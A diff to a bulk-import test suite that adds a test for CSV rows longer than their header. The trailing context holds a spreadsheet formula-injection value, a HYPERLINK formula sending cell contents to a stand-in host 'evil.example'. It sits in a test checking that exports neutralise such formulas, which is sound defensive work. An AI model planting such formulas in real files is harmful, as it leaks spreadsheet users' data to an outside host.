@@ -199,6 +199,19 @@ describe('bulk imports', function () {
     assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 2)
   })
 
+  it('a CSV row longer than its header is refused when the extra cells hold values (they belong to no field); trailing empty cells and short rows are read', async () => {
+    const at = (day: number) => `${ids.maria},2034-06-0${day}T09:00:00.000Z`
+    const before = await count(`/appointments?ManagerId=${ids.maria}`)
+    // Rows: 1 header, 2 trailing empty cells, 3 an extra value, 4 good, 5 short (no Attendees cell), 6 blank with commas.
+    const csv = ['ManagerId,AppointedDate,Attendees', `${at(1)},,,`, `${at(2)},[],lost value`, `${at(3)},[]`, at(4), ',,,,'].join('\n')
+    const record = await runImport('maria', 'appointments', csv)
+    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 4, 3, 1], JSON.stringify(record.ErrorDetails))
+    assert.deepEqual(record.ErrorDetails.map((e: any) => e.Row), [3])
+    assert.match(record.ErrorDetails[0].Error, /this row has 4 cells and the header 3: the cells past the header \("lost value"\) belong to no field/)
+    assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 3)
+    assert.equal((await count(`/appointments?ManagerId=${ids.maria}&AppointedDate=2034-06-02T09:00:00.000Z`)), 0, 'the refused row wrote nothing')
+  })
+
   it('a formula-like Name is exported after an apostrophe (a spreadsheet shows it as text) and imported back as it was', async () => {
     const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     await server.app.service('users').patch(ids.omar, { Name: name })
